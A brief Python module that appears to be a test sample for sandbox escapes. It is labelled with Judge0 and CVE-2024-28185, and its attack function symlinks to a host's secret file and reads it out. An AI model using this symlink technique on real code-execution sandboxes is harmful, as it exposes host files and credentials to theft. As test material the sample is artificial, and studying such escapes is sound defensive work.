"""Make a link to a file of the host and open it."""

from __future__ import annotations

import os

ORIGIN = "Judge0, CVE-2024-28185: links out of the box."
SEEN = "secret"


def attack(target):
    os.symlink(target["secret_file"], "link")
    with open("link") as stream:
        return stream.read()
